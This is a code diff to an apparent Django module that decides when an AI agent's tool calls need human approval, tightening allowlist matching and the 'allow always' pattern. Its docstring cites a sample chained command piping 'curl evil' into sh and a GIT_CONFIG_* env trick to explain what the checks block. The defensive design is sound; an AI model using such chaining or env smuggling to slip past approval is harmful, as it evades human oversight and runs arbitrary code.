@@ -4,18 +4,28 @@ Per agent, `approval = {"mode": "off"|"on_miss"|"always", "allowlist": [...], "t
 `off` runs everything the policy allows; `on_miss` asks unless an allowlist pattern matches; `always`
 asks for every call. An unknown mode asks (fail closed).
 
-Allowlist patterns: `*` (everything), `TOOL` (any call of a tool; globs allowed, e.g. `web_*`),
-`TOOL:GLOB` (the call's subject, e.g. exec's command or web_fetch's URL, matches the glob) and
-`TOOL:=EXACT` (the subject is exactly EXACT; "allow always" writes these). Because `exec:git *` would
-also match `git log; curl evil | sh`, an exec glob only matches a single simple command: no shell
-operators, redirections, substitutions or newlines, and no `env` (env can change what a program does).
-Such a command still runs when a human approves it.
+Allowlist patterns say which inputs they cover:
+
+- `*` covers every call, `TOOL` (globs allowed, e.g. `web_*`) every call of a tool, whatever its input;
+- `TOOL:GLOB` covers calls whose subject (exec's command, web_fetch's URL, process's action) matches the
+  glob and whose input is nothing but the subject: an `env`, `workdir`, `handle` or any other input
+  that changes what the call does is not covered (`GIT_CONFIG_*` in env turns `git status` into any
+  program). Inputs a tool declares harmless (`ToolSpec.approval_ignores`, e.g. exec's timeout) may vary.
+  Because `exec:git *` would also match `git log; curl evil | sh`, an exec glob only matches a single
+  simple command: no shell operators, redirections, substitutions or newlines;
+- `TOOL:=EXACT` is the same with an exact subject;
+- `TOOL:input={JSON}` covers exactly that input (the harmless inputs aside).
+
+"Allow always" writes the narrowest of these that covers exactly the input the approver saw: `TOOL:=EXACT`
+when the input was the subject alone, else `TOOL:input={...}`. A call no pattern covers still runs when a
+human approves it.
 
 The waiting holds no thread: a call waits as a row; the decision (REST, WebSocket, admin, or expiry
 from the workers' housekeeping loop) moves it on. Resolution itself lives in tools.services.
 """
 
 import fnmatch
+import json
 import logging
 from datetime import timedelta
 
@@ -27,6 +37,7 @@ from django.utils import timezone
 
 from sessions import events
 from tenants.models import Agent
+from tools import registry
 from tools.base import ToolSpec
 from tools.models import Approval
 
@@ -36,6 +47,7 @@ APPROVAL_REQUESTED = "approval.requested"
 APPROVAL_RESOLVED = "approval.resolved"
 # Shell syntax that chains, substitutes or redirects: a glob pattern never vouches for it.
 _SHELL_SYNTAX = frozenset(";&|<>`$()\n\r\\")
+INPUT_PREFIX = "input="
 
 
 def tenant_approvals_group(tenant_id) -> str:
@@ -43,18 +55,38 @@ def tenant_approvals_group(tenant_id) -> str:
     return f"approvals.{tenant_id}"
 
 
-def pattern_matches(pattern: str, *, tool: str, subject: str, tool_input: dict) -> bool:
+def covered_input(spec: ToolSpec, tool_input: dict) -> dict:
+    """The part of a call's input an approval must cover: everything but the tool's harmless inputs."""
+    return {k: v for k, v in tool_input.items() if k not in spec.approval_ignores}
+
+
+def _canonical(value) -> str:
+    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+
+
+def pattern_matches(pattern: str, *, spec: ToolSpec, tool_input: dict) -> bool:
     pattern = pattern.strip()
     if pattern == "*":
         return True
     name, sep, argument = pattern.partition(":")
-    if not fnmatch.fnmatchcase(tool, name):
+    if not fnmatch.fnmatchcase(spec.name, name):
         return False
     if not sep:
         return True
+    covered = covered_input(spec, tool_input)
+    if argument.startswith(INPUT_PREFIX):
+        try:
+            expected = json.loads(argument[len(INPUT_PREFIX):])
+        except ValueError:
+            return False
+        return isinstance(expected, dict) and _canonical(expected) == _canonical(covered)
+    subject = spec.subject(tool_input)
+    # A subject pattern vouches for the subject only, so the subject must be all there is.
+    if len(covered) != 1 or str(next(iter(covered.values()))) != subject:
+        return False
     if argument.startswith("="):
         return subject == argument[1:]
-    if tool == "exec" and (tool_input.get("env") or any(ch in _SHELL_SYNTAX for ch in subject)):
+    if spec.name == "exec" and any(ch in _SHELL_SYNTAX for ch in subject):
         return False
     return fnmatch.fnmatchcase(subject, argument)
 
@@ -71,10 +103,7 @@ def approval_needed(*, agent: Agent, spec: ToolSpec, tool_input: dict) -> bool:
     if mode != "on_miss":
         return True
     allowlist = conf.get("allowlist") if isinstance(conf.get("allowlist"), list) else []
-    subject = spec.subject(tool_input)
-    return not any(
-        isinstance(p, str) and pattern_matches(p, tool=spec.name, subject=subject, tool_input=tool_input) for p in allowlist
-    )
+    return not any(isinstance(p, str) and pattern_matches(p, spec=spec, tool_input=tool_input) for p in allowlist)
 
 
 def approval_timeout(agent: Agent) -> float:
@@ -84,8 +113,15 @@ def approval_timeout(agent: Agent) -> float:
     return settings.BEAMCLAW_TOOLS["APPROVAL_TIMEOUT_SECONDS"]
 
 
-def always_pattern(approval: Approval) -> str:
-    return f"{approval.tool}:={approval.subject}" if approval.subject else approval.tool
+def always_pattern(spec: ToolSpec, tool_input: dict) -> str:
+    """The allowlist pattern "allow always" adds: it covers exactly the input the approver saw."""
+    covered = covered_input(spec, tool_input)
+    if not covered:
+        return spec.name
+    subject = spec.subject(tool_input)
+    if len(covered) == 1 and str(next(iter(covered.values()))) == subject:
+        return f"{spec.name}:={subject}"
+    return f"{spec.name}:{INPUT_PREFIX}{_canonical(covered)}"
 
 
 def approval_payload(approval: Approval) -> dict:
@@ -148,11 +184,12 @@ def approval_decide_locked(approval: Approval, *, status: str, decided_by: str, 
     approval.decided_at = timezone.now()
     approval.always = bool(always and status == Approval.Status.ALLOWED)
     approval.save(update_fields=["status", "decided_by", "reason", "decided_at", "always"])
-    if approval.always:
+    spec = registry.registered_tools().get(approval.tool)
+    if approval.always and spec is not None:
         agent = Agent.objects.select_for_update().get(pk=approval.agent_id)
         conf = dict(agent.approval) if isinstance(agent.approval, dict) else {"mode": "on_miss"}
         allowlist = [p for p in conf.get("allowlist") or [] if isinstance(p, str)]
-        pattern = always_pattern(approval)
+        pattern = always_pattern(spec, approval.input)
         if pattern not in allowlist:
             conf["allowlist"] = [*allowlist, pattern]
             agent.approval = conf
